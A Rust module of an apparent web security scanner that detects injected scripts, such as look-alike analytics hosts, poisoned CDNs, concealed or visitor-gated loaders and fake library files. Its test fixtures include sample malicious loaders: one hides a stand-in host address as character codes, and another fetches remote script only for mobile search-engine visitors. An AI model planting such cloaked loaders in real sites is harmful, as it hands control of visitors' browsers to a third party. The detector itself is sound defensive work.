//! Scripts that somebody slipped in, as far as no redirect, hidden link or landing proves what they are for.
//!
//! **What it finds.** Scripts from look-alikes of statistics, content networks and libraries, or from networks that
//! served altered scripts; scripts that deal with a foreign place whose name they conceal, or that load one only for
//! chosen visitors; files with a foreign tail; names of libraries on other code; droppers of old machines. **Why it
//! matters.** Whoever writes a script owns the page in every visitor's browser, and may start at any time. **How it can
//! be wrong.** Advertising networks conceal their hosts too; obfuscation by itself is lawful and never reported, nor are
//! anti-bot challenges, statistics and tag managers. What is proven is told by `illicit-redirect` and its like.

mod code;
mod dealings;
mod host;

use std::collections::BTreeSet;

use url::Url;

use super::card::{Card, Example, Seen, Text};
use super::dossier::{Dossier, View};
use super::jump::target;
use super::landing::{is_abandoned, judge_landing};
use super::rehearsal::{Answer, Rehearsal};
use super::sighting::{Sighting, distinct_sightings};
use super::{Context, Detector};
use crate::exchange::host::registrable_domain;
use crate::exchange::{Exchange, Failure, Purpose, Response, charset, stand_in};
use crate::finding::{
    Category, Finding, IncompleteFinding, Kind, NotAssessed, Outcome, Payload, Reason, Severity, Signal,
    State,
};
use crate::lang::Bilingual;
use crate::page::{Page, Script, Viewport};
use crate::script::behaviour::{Attribute, Ending};
use crate::script::deed::Deed;
use crate::script::observe::Observation;
use dealings::{Dealing, dealings};
use host::Named;

/// The detector.
pub(super) static DETECTOR: Detector = Detector { kind: Kind::SuspiciousScript, card: CARD, detect };

const CARD: Card = Card {
    since: "0.2.0",
    severity: Severity::High,
    looks_at: Text {
        zh: "页面的内联脚本、外部脚本及其所在主机，脚本再加载的脚本，以及虚拟访客运行这些脚本时的行为。",
        en: "Inline and outside scripts with their hosts, scripts that scripts load, and what they do for virtual visitors.",
    },
    finds: Text {
        zh: "仿冒统计、公共库或 CDN 域名的脚本，曾被投毒的公共 CDN，隐藏去向（源代码中读不到域名）的加载器，只对特定访客加载的脚本，\
             本站脚本尾部追加的混淆代码，冒用库文件名的代码，旧式脚本释放器，以及主机已失效的外部脚本。",
        en: "Scripts from look-alikes of statistics, libraries or content networks, from networks that were poisoned, loaders \
             whose destination nobody can read in the source, scripts loaded for chosen visitors only, obfuscated tails of the \
             site's own files, other code under a library's name, droppers of old machines, and scripts whose host is gone.",
    },
    matters: Text {
        zh: "能写入脚本的人可以随时在访客浏览器中跳转、植入暗链或窃取信息；多数条件跳转由此类加载器下发。",
        en: "Whoever writes a script may redirect, plant links or steal in every visitor's browser at any time; most conditional \
             redirects come through such loaders.",
    },
    errs: Text {
        zh: "混淆本身合法，不单独报告；反爬验证、统计、标签管理、广告与微信组件不报；部分广告联盟也会隐藏主机名；未取得后续脚本时只能说可疑。",
        en: "Obfuscation is lawful and not reported by itself, nor are anti-bot challenges, statistics, tag managers and \
             WeChat; some advertising networks conceal their hosts as well; without the next stage it is suspicion only.",
    },
    references: &[
        "https://sansec.io/research/polyfill-supply-chain-attack",
        "https://cwe.mitre.org/data/definitions/506.html",
        "https://cwe.mitre.org/data/definitions/829.html",
    ],
    must_find: &[
        Example {
            name: "a loader that writes its address as a list of numbers",
            seen: Seen::Visit(|| {
                Rehearsal::new()
                    .view("d", Answer::Html("<title>某某学校</title><p>学校简介</p><script>var d=document,s=d.createElement('script');s.src=String.fromCharCode(104,116,116,112,115,58,47,47,106,115,46,97,49,98,50,46,116,101,115,116,47,97,46,106,115);d.getElementsByTagName('head')[0].appendChild(s)</script>"))
                    .observed()
                    .end()
            }),
        },
        Example {
            name: "a script from a look-alike of a statistics service",
            seen: Seen::Page(
                "<title>某某学校</title><p>学校简介</p><script src='https://hm.baidu.com.a1b2.test/hm.js?8f3'></script>",
            ),
        },
        Example {
            name: "a script that is loaded only for those who come from a search engine by phone",
            seen: Seen::Visit(|| {
                Rehearsal::new()
                    .view("d", Answer::Html("<title>某某学校</title><p>学校简介</p><script>if(/baidu|sogou/.test(document.referrer)&&/Android|iPhone/.test(navigator.userAgent)){var s=document.createElement('script');s.src='//js.a1b2.test/t.js';document.head.appendChild(s)}</script>"))
                    .observed()
                    .end()
            }),
        },
    ],
    must_spare: &[
        Example {
            name: "the usual loaders of statistics",
            seen: Seen::Visit(|| {
                Rehearsal::new()
                    .view("d", Answer::Html("<title>某某学校</title><p>学校简介</p><script>var _hmt=_hmt||[];(function(){var hm=document.createElement('script');hm.src='https://hm.baidu.com/hm.js?1';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(hm,s)})();</script><script>document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E%3Cscript src='https://s4.cnzz.com/stat.php%3Fid%3D1' type='text/javascript'%3E%3C/script%3E\"));</script>"))
                    .observed()
                    .end()
            }),
        },
        Example {
            name: "packed code of the site's own",
            seen: Seen::Visit(|| {
                Rehearsal::new()
                    .view("d", Answer::Html("<title>某某学校</title><p id=x>学校简介</p><script>eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)d[c]=k[c]||c;k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1(\"2\").3=4',5,5,'document|getElementById|x|title|1'.split('|'),0,{}))</script>"))
                    .observed()
                    .end()
            }),
        },
        Example {
            name: "a widget of an outside house that names its host",
            seen: Seen::Visit(|| {
                Rehearsal::new()
                    .view("d", Answer::Html("<title>某某公司</title><p>简介</p><script>(function(){var s=document.createElement('script');s.async=true;s.src='https://chat.partner1.test/widget.js';document.body.appendChild(s)})()</script>"))
                    .observed()
                    .end()
            }),
        },
    ],
};

/// One cause for a finding.
struct Case {
    method: &'static str,
    /// What makes two sightings the same one.
    cause: String,
    verdict: (State, Severity, f64),
    signals: Vec<Signal>,
    zh: String,
    en: String,
    why_zh: String,
    why_en: String,
    /// The script, by its place on the page.
    script: Option<usize>,
    payload: Payload,
    shows: Vec<String>,
    minimal: bool,
    visitors: Vec<String>,
    detail: Vec<(&'static str, serde_json::Value)>,
}

fn detect(dossier: &Dossier, context: &Context<'_>) -> Vec<Outcome> {
    let mut outcomes = Vec::new();
    let mut any = false;
    for sighting in distinct_sightings(dossier) {
        any |= !sighting.page.scripts.is_empty();
        let mut cases = named(&sighting, context);
        cases.extend(dealings(&sighting, context).into_iter().map(|one| dealing(&sighting, &one)));
        cases.extend(written(&sighting, context));
        cases.extend(gone(&sighting, context));
        let mut told = BTreeSet::new();
        for case in &cases {
            if let (true, Ok(finding)) = (told.insert(case.cause.clone()), finding(&sighting, case)) {
                let finding = Box::new(finding);
                let sure = finding.state != State::Risk;
                outcomes.push(if sure { Outcome::Violation(finding) } else { Outcome::NeedsReview(finding) });
            }
        }
        outcomes.extend(unfinished(&sighting).map(Outcome::NotAssessed));
    }
    match (any, outcomes.is_empty()) {
        (false, true) => vec![Outcome::NotApplicable(Kind::SuspiciousScript)],
        (true, true) => vec![Outcome::Pass(Kind::SuspiciousScript)],
        (_, false) => outcomes,
    }
}

/// Whether a view's scripts were not run to their end although what they would have done may matter, so that only a
/// browser can tell: a script is obfuscated, or asked where the visitor came from, or whether a machine is looking.
/// A view that a browser watched needs none any more.
pub fn needs_browser(view: &View) -> bool {
    let (Some(page), Some(observation)) = (&view.page, &view.observation) else { return false };
    if observation.ending == Ending::Complete || view.rendering.is_some() {
        return false;
    }
    let runs = observation.runs.iter().map(|run| &run.behaviour);
    let chooses = runs.into_iter().any(|behaviour| behaviour.asked.contains(&Attribute::Referrer));
    let obscure = page.scripts.iter().any(|script| code::family(&script.code).is_some());
    obscure || chooses || observation.probes_for_machines
}

/// The line that says so.
fn unfinished(sighting: &Sighting<'_>) -> Option<NotAssessed> {
    let ending = sighting.view.observation.as_ref().filter(|_| needs_browser(sighting.view))?.ending;
    let (zh, en) = match ending {
        Ending::OutOfTime => ("超出时间预算", "ran out of time"),
        Ending::OutOfMemory => ("超出内存预算", "ran out of memory"),
        Ending::Failed => ("含引擎无法执行的写法", "use what the engine does not know"),
        Ending::Complete => return None,
    };
    Some(NotAssessed {
        url: sighting.page.url.to_string(),
        reason: Reason::NeedsBrowser,
        detail: Bilingual::new(
            format!(
                "页面脚本经混淆或会判断访客身份，但未能运行完（{zh}），不能据此认为没有跳转；请用浏览器复核（--browser）。"
            ),
            format!(
                "Scripts of the page are obfuscated or look at who visits, and could not be run to their end (they {en}); this \
                 does not show that nobody is redirected. Look with a browser (--browser)."
            ),
        ),
    })
}

/// Every address that scripts come from: those of the document, then those that scripts load.
fn addresses<'a>(sighting: &Sighting<'a>) -> Vec<(Url, Option<usize>)> {
    let scripts = sighting.page.scripts.iter().enumerate();
    let mut all: Vec<_> =
        scripts.filter_map(|(index, script)| Some((script.url.clone()?, Some(index)))).collect();
    let observation = sighting.view.observation.as_deref();
    for act in observation.into_iter().flat_map(|observation| &observation.acts) {
        if let Deed::Loader { from } = &act.moment.deed
            && let Ok(url) = Url::parse(from)
            && !all.iter().any(|(known, _)| *known == url)
        {
            all.push((url, act.moment.piece));
        }
    }
    all
}

/// Scripts whose host says by its name alone what it is, and libraries that were never published.
fn named(sighting: &Sighting<'_>, context: &Context<'_>) -> Vec<Case> {
    let mut cases = Vec::new();
    for (url, script) in addresses(sighting) {
        let Some(host) = url.host_str().filter(|_| context.known.outside(sighting.dossier, &url)) else {
            continue;
        };
        let foreign = context.known.foreign(sighting.dossier, &url);
        match host::named(host) {
            Some(Named::LookAlike { of, certain }) if foreign => {
                cases.push(look_alike(&url, script, of, certain));
            }
            Some(Named::Malware) => cases.push(poisoned(&url, script, true)),
            Some(Named::Poisoned) => cases.push(poisoned(&url, script, false)),
            _ => {}
        }
        if foreign && let Some(version) = unpublished(&url) {
            cases.push(fake_library(&url, script, &version));
        }
    }
    cases
}

fn look_alike(url: &Url, script: Option<usize>, of: &str, certain: bool) -> Case {
    let host = url.host_str().unwrap_or_default();
    let verdict = if certain {
        (State::Suspected, Severity::High, 0.85)
    } else {
        (State::Suspected, Severity::Medium, 0.6)
    };
    Case {
        why_zh: format!(
            "脚本来自 {host}，其写法与常用服务 {of} 相近，却不是该服务的主机。仿冒名称便于在检查中蒙混过关。"
        ),
        why_en: format!(
            "A script comes from {host}, which is written like the well-known service {of} and is not one of its hosts. Borrowed names \
             are meant to pass when somebody looks."
        ),
        detail: vec![("imitates", of.into())],
        ..Case::of(
            "js-fake-analytics",
            url,
            script,
            verdict,
            "脚本来自仿冒的服务域名",
            "A script comes from a look-alike of a known service",
        )
    }
}

fn poisoned(url: &Url, script: Option<usize>, malware: bool) -> Case {
    let host = url.host_str().unwrap_or_default();
    if malware {
        let verdict = (State::Suspected, Severity::High, 0.9);
        return Case {
            why_zh: format!(
                "{host} 是 2023–2024 年公共 CDN 投毒事件中用于下发跳转代码的域名，没有正当用途。"
            ),
            why_en: format!(
                "{host} served the redirects of the poisoned public networks of 2023 and 2024, and has no lawful use."
            ),
            ..Case::of(
                "js-public-cdn-poison",
                url,
                script,
                verdict,
                "脚本来自已知的投毒域名",
                "A script comes from a host known for poisoned scripts",
            )
        };
    }
    let verdict = (State::Risk, Severity::Low, 0.5);
    Case {
        signals: vec![Signal::Foreignness],
        why_zh: format!(
            "{host} 在 2023–2024 年曾向部分访客下发被篡改的脚本。引用它是隐患，不等于已经发生事件。"
        ),
        why_en: format!(
            "{host} served altered scripts to some visitors in 2023 and 2024. To load from it is a weakness and does not mean that \
             anything happened."
        ),
        ..Case::of(
            "js-public-cdn-poison",
            url,
            script,
            verdict,
            "引用了曾被投毒的公共 CDN",
            "A script comes from a public network that was poisoned",
        )
    }
}

fn fake_library(url: &Url, script: Option<usize>, version: &str) -> Case {
    let verdict = (State::Suspected, Severity::Medium, 0.6);
    Case {
        why_zh: format!("{url} 以 jQuery {version} 命名，而该版本从未发布；此类文件名常用于掩护加载器。"),
        why_en: format!(
            "{url} calls itself jQuery {version}, a version that was never published; loaders hide behind such names."
        ),
        ..Case::of(
            "js-fake-library",
            url,
            script,
            verdict,
            "脚本冒用从未发布的库版本",
            "A script bears a version of a library that was never published",
        )
    }
}

impl Case {
    fn of(
        method: &'static str,
        url: &Url,
        script: Option<usize>,
        verdict: (State, Severity, f64),
        zh: &str,
        en: &str,
    ) -> Self {
        let domain = registrable_domain(url).unwrap_or_default();
        Self {
            method,
            cause: format!("{method}\n{domain}"),
            verdict,
            signals: vec![Signal::Mechanism, Signal::Foreignness],
            zh: zh.to_owned(),
            en: en.to_owned(),
            why_zh: String::new(),
            why_en: String::new(),
            script,
            payload: Payload { urls: vec![url.to_string()], ..Payload::default() },
            shows: Vec::new(),
            minimal: false,
            visitors: Vec::new(),
            detail: Vec::new(),
        }
    }
}

/// A version in the name of a jQuery file that was never published.
fn unpublished(url: &Url) -> Option<String> {
    let file = url.path().rsplit('/').next()?.to_ascii_lowercase();
    let rest = file.strip_prefix("jquery")?.strip_suffix(".js")?;
    let rest = rest.replace(".min", "").replace(".slim", "");
    let version = rest.trim_matches(['-', '.', '_', 'v']);
    let mut numbers = version.split('.').map(str::parse::<u8>);
    let (Some(Ok(major)), Some(Ok(minor)), Some(Ok(patch)), None) =
        (numbers.next(), numbers.next(), numbers.next(), numbers.next())
    else {
        return None;
    };
    // The last patch of each minor version, as the project's list of releases has them.
    let last: &[u8] = match major {
        1 => &[4, 4, 6, 2, 4, 2, 4, 2, 3, 1, 2, 3, 4],
        2 => &[3, 4, 4],
        3 => &[0, 1, 1, 1, 1, 1, 4, 1],
        _ => return None,
    };
    (last.get(usize::from(minor)).is_none_or(|last| patch > *last)).then(|| version.to_owned())
}

/// What scripts had to do with a foreign place.
fn dealing(sighting: &Sighting<'_>, one: &Dealing) -> Case {
    let landing = target::landing(sighting.dossier, &one.to);
    let category = landing.and_then(|landing| landing.category);
    let script = one.piece.or_else(|| likely(sighting.page, &one.to));
    let family = script.and_then(|index| code::family(&sighting.page.scripts[index].code));
    let gates: Vec<&str> = one.gates().collect();
    let obscure = sighting.page.scripts.iter().any(|script| code::family(&script.code).is_some());
    let verdict = match (category, one.concealed, one.is_evasive()) {
        (Some(_), _, _) => (State::Confirmed, Severity::High, 0.9),
        // Who loads something only for visitors of a search engine has visitors in mind that the operator does not see.
        (None, true, true) if one.is_for_searchers() => (State::Suspected, Severity::High, 0.85),
        (None, false, true) if one.is_for_searchers() => (State::Suspected, Severity::Medium, 0.65),
        (None, true, _) if family.is_some_and(code::hides_text) => (State::Suspected, Severity::Medium, 0.75),
        // Networks of adverts conceal their hosts from blockers, and choose whom to show what.
        (None, true, true) if obscure => (State::Suspected, Severity::Low, 0.5),
        (None, true, false) if obscure => (State::Suspected, Severity::Low, 0.45),
        // A host that plain code puts together from parts is most often a vendor's.
        (None, true, _) => (State::Risk, Severity::Low, 0.4),
        (None, false, _) => (State::Risk, Severity::Low, 0.35),
    };
    let tail = script.and_then(|index| foreign_piece(sighting, &sighting.page.scripts[index]));
    let method = match (one.concealed, &tail) {
        (_, Some(_)) => "js-local-tail-append",
        (true, None) => one.method,
        (false, None) => gate_method(&gates).unwrap_or(one.method),
    };
    let (zh, en) = match (one.concealed, one.runs) {
        (true, true) => (
            "脚本暗中加载站外脚本，且隐藏其地址",
            "A script loads another from a foreign host that it conceals",
        ),
        (true, false) => {
            ("脚本暗中指向站外地址，且隐藏其域名", "A script leads to a foreign host that it conceals")
        }
        (false, _) => ("站外脚本只对部分访客加载", "A foreign script is loaded for some visitors only"),
    };
    let host = one.to.host_str().unwrap_or_default();
    let (when_zh, when_en) = if gates.is_empty() {
        (String::new(), String::new())
    } else {
        (format!("，且只在条件 {} 下", gates.join(" + ")), format!(", only under {}", gates.join(" + ")))
    };
    let (how_zh, how_en) = if one.concealed {
        (
            "该域名在页面和脚本的源代码中都读不到，是运行时拼出的",
            "its name stands nowhere in the page and its scripts, and is put together at run time",
        )
    } else {
        ("该主机不是已知的公共服务", "the host is no known public service")
    };
    let mut detail = vec![("concealed", serde_json::Value::from(one.concealed))];
    detail.extend(family.map(|family| ("obfuscation", family.into())));
    let payload = Payload {
        category,
        urls: vec![one.to.to_string()],
        terms: landing.map(|landing| landing.terms.clone()).unwrap_or_default(),
        landing: landing.filter(|_| category.is_some()).map(|landing| landing.end.to_string()),
    };
    let mut signals = vec![Signal::Mechanism, Signal::Foreignness];
    signals.extend(category.map(|_| Signal::Payload));
    Case {
        why_zh: format!("运行脚本的虚拟访客被引向 {host}{when_zh}；{how_zh}。"),
        why_en: format!("Virtual visitors that ran the scripts were led to {host}{when_en}; {how_en}."),
        cause: format!("dealing\n{}", registrable_domain(&one.to).unwrap_or_default()),
        signals,
        payload,
        shows: one.shows.clone(),
        minimal: one.minimal,
        visitors: one.visitors.clone(),
        detail,
        ..Case::of(method, &one.to, script, verdict, zh, en)
    }
}

fn gate_method(gates: &[&str]) -> Option<&'static str> {
    [
        ("referer:", "js-referrer-gate"),
        ("time:", "js-time-gate"),
        ("random", "js-random-gate"),
        ("cookie:", "js-cookie-gate"),
        ("region:", "js-geo-gate"),
        ("ua:", "js-ua-gate"),
    ]
    .into_iter()
    .find_map(|(head, method)| gates.iter().any(|gate| gate.starts_with(head)).then_some(method))
}

/// The script that most likely did it: one that is written to be unreadable, else one that names the place.
fn likely(page: &Page, to: &Url) -> Option<usize> {
    let domain = registrable_domain(to).unwrap_or_default();
    let named = page.scripts.iter().position(|script| !domain.is_empty() && script.code.contains(&domain));
    named.or_else(|| page.scripts.iter().position(|script| code::family(&script.code).is_some()))
}

/// The obfuscated piece of a file of the site's own, where it is written otherwise than the rest.
fn foreign_piece(sighting: &Sighting<'_>, script: &Script) -> Option<std::ops::Range<usize>> {
    let url = script.url.as_ref()?;
    crate::exchange::host::same_site(url, &sighting.page.url).then(|| code::seam(&script.code)).flatten()
}

/// What is told by how a script is written: other code under a library's name, droppers, a tail whose effect nobody saw.
fn written(sighting: &Sighting<'_>, context: &Context<'_>) -> Vec<Case> {
    let mut cases = Vec::new();
    for (index, script) in
        sighting.page.scripts.iter().enumerate().filter(|(_, script)| !script.code.is_empty())
    {
        let own = sighting.page.url.clone();
        let url = script.url.as_ref().unwrap_or(&own);
        if code::drops_files(&script.code) {
            let verdict = (State::Risk, Severity::Medium, 0.8);
            cases.push(Case {
                signals: vec![Signal::Mechanism],
                cause: "dropper".to_owned(),
                payload: Payload { category: Some(Category::AttackTools), ..Payload::default() },
                why_zh: "脚本调用系统对象写文件或启动程序，是感染型病毒（如 Ramnit）在网页文件中的残留。".to_owned(),
                why_en: "The script asks the system to write files or start programs: what file infectors such as Ramnit leave in pages.".to_owned(),
                ..Case::of("obf-script-encode", url, Some(index), verdict, "页面含有病毒释放脚本", "The page holds a script that drops files")
            });
        }
        if let Some(library) = false_name(script) {
            let foreign = context.known.foreign(sighting.dossier, url);
            let state = if foreign { State::Suspected } else { State::Risk };
            let mut case = Case {
                why_zh: format!("{url} 以 {library} 命名，内容却不是该库，而是加载器或混淆代码。"),
                why_en: format!(
                    "{url} is named like {library} and holds a loader or obfuscated code instead."
                ),
                ..Case::of(
                    "js-fake-library",
                    url,
                    Some(index),
                    (state, Severity::Medium, 0.7),
                    "脚本冒用库文件名",
                    "A script bears a library's name and is not it",
                )
            };
            if !foreign {
                case.signals = vec![Signal::Mechanism];
            }
            cases.push(case);
        }
        let done = sighting.view.observation.as_ref().is_some_and(|seen| seen.ending == Ending::Complete);
        if !done && foreign_piece(sighting, script).is_some() {
            cases.push(Case {
                signals: vec![Signal::Mechanism],
                why_zh: format!("本站脚本 {url} 中有一段与其余代码写法迥异的混淆代码，作用未能查明。"),
                why_en: format!("The site's own script {url} holds an obfuscated piece unlike the rest of it, whose effect was not seen."),
                cause: format!("seam\n{}", url.path()),
                ..Case::of("js-local-tail-append", url, Some(index), (State::Risk, Severity::Medium, 0.6), "本站脚本被追加混淆代码", "Obfuscated code was added to one of the site's own scripts")
            });
        }
    }
    cases
}

/// A library whose name a file bears although its code is another: short, and a loader or obfuscated.
fn false_name(script: &Script) -> Option<&'static str> {
    const LONGEST: usize = 12_000;
    let file = script.url.as_ref()?.path().rsplit('/').next()?.to_ascii_lowercase();
    let stem = file.strip_suffix(".js")?.trim_end_matches(".min").trim_end_matches(".slim");
    let stem = stem.trim_end_matches(|ch: char| ch.is_ascii_digit() || matches!(ch, '.' | '-' | '_' | 'v'));
    let stem = stem.trim_end_matches(".min");
    let library =
        ["jquery", "bootstrap", "vue", "react", "swiper", "layui", "echarts", "zepto", "lodash", "axios"]
            .into_iter()
            .find(|library| stem == *library)?;
    let code = &script.code;
    let low = code.to_ascii_lowercase();
    let is_it = low.contains(library) || library == "jquery" && low.contains(".fn.");
    let loads = low.contains("createelement('script')")
        || low.contains("createelement(\"script\")")
        || low.contains("<script")
        || low.contains("<scr");
    (code.len() < LONGEST && !is_it && (loads || code::family(code).is_some())).then_some(library)
}

/// Foreign scripts whose host no longer gives one: it is parked, serves a page that promotes something, or has no address.
fn gone(sighting: &Sighting<'_>, context: &Context<'_>) -> Vec<Case> {
    let mut cases = Vec::new();
    for (url, script) in addresses(sighting) {
        if !context.known.foreign(sighting.dossier, &url) {
            continue;
        }
        let asked = |exchange: &&Exchange| exchange.purpose == Purpose::Script && exchange.request.url == url;
        let Some(exchange) = sighting.dossier.exchanges.iter().find(asked) else { continue };
        match &exchange.result {
            Err(Failure::Unresolvable(_)) => cases.push(Case {
                signals: vec![Signal::Foreignness],
                why_zh: format!("{url} 的域名无法解析。域名失效后可被他人注册，届时其脚本将在本页运行；也可能只是暂时故障。"),
                why_en: format!("The name of {url} does not resolve. Once a name lapses somebody else may register it, and own the script; it may \
                                 also be a passing fault."),
                ..Case::of("js-expired-thirdparty", &url, script, (State::Risk, Severity::Low, 0.4), "外部脚本的域名无法解析", "The name that a script comes from does not resolve")
            }),
            Ok(response) => cases.extend(page_for_script(&url, script, response, context)),
            Err(_) => {}
        }
    }
    cases
}

/// A document came where a script was asked for.
fn page_for_script(
    url: &Url,
    script: Option<usize>,
    response: &Response,
    context: &Context<'_>,
) -> Option<Case> {
    let text = charset::decode(&response.body, response.header("content-type").as_deref()).text;
    if !text.trim_start_matches('\u{feff}').trim_start().starts_with('<') {
        return None;
    }
    let stands_in = stand_in::recognise(response.status, &response.headers, url, &text);
    let page = Page::parse(&text, url, &[], Viewport::PHONE);
    let judged = judge_landing(&page, url, context.lexicon);
    let (verdict, zh, en) = match judged.category {
        Some(_) => (
            (State::Confirmed, Severity::High, 0.85),
            "外部脚本的主机现提供违法内容",
            "A script's host now serves illegal content",
        ),
        None if is_abandoned(stands_in.as_ref()) => (
            (State::Risk, Severity::Medium, 0.6),
            "外部脚本的域名已停放或待售",
            "A script's host is parked or for sale",
        ),
        None => return None,
    };
    let mut case = Case {
        why_zh: format!("请求脚本 {url} 得到的是网页而非脚本，多因原域名失效后易主。"),
        why_en: format!(
            "Instead of a script, {url} gives a page; most often the name lapsed and has another owner."
        ),
        ..Case::of("js-expired-thirdparty", url, script, verdict, zh, en)
    };
    case.payload.category = judged.category;
    case.payload.terms = judged.terms;
    case.signals.extend(judged.category.map(|_| Signal::Payload));
    Some(case)
}

fn finding(sighting: &Sighting<'_>, case: &Case) -> Result<Finding, IncompleteFinding> {
    let (state, severity, confidence) = case.verdict;
    let script = case.script.and_then(|index| sighting.page.scripts.get(index));
    let source = match script {
        Some(Script { url: Some(url), code, .. }) if code.is_empty() => url.as_str(),
        Some(script) if !script.code.is_empty() => script.code.as_str(),
        _ => case.payload.urls.first().map_or("", String::as_str),
    };
    let mark = script
        .and_then(|script| foreign_piece(sighting, script))
        .map_or((0, source.len()), |piece| (piece.start, piece.end));
    let (selector, line) = script.map_or(("", 0), |script| (script.selector.as_str(), script.line));
    let mut builder = sighting
        .finding(Kind::SuspiciousScript, case.cause.as_str())
        .verdict(state, severity, confidence)
        .title(case.zh.as_str(), case.en.as_str())
        .explanation(case.why_zh.as_str(), case.why_en.as_str())
        .remedy(
            "先保存该脚本，再与本单位的源码或部署包比对；不是本单位或约定服务商所加的，删除并排查写入途径；外部库改为自行托管并加完整性校验。",
            "Keep the script, then compare it with the operator's sources; if neither the operator nor a contracted service put it \
             there, remove it and find the way in; serve libraries from the site itself, with integrity checks.",
        )
        .place(sighting.place(case.method, selector, line, source, mark))
        .payload(case.payload.clone())
        .signals(case.signals.iter().copied());
    if !case.visitors.is_empty() {
        builder = builder.visitors(case.visitors.clone(), case.shows.clone(), case.minimal);
    }
    for (key, value) in &case.detail {
        builder = builder.detail(key, value.clone());
    }
    if asks_for_machines(sighting.view.observation.as_deref()) {
        builder = builder.detail("looks_for_machines", true);
    }
    if let Some(url) = script.and_then(|script| script.url.as_ref()) {
        let fetched =
            |exchange: &&Exchange| exchange.purpose == Purpose::Script && exchange.request.url == *url;
        for exchange in sighting.dossier.exchanges.iter().filter(fetched).take(1) {
            builder = builder.exchange(exchange.id);
        }
    }
    builder.build()
}

fn asks_for_machines(observation: Option<&Observation>) -> bool {
    observation.is_some_and(|observation| observation.probes_for_machines)
}
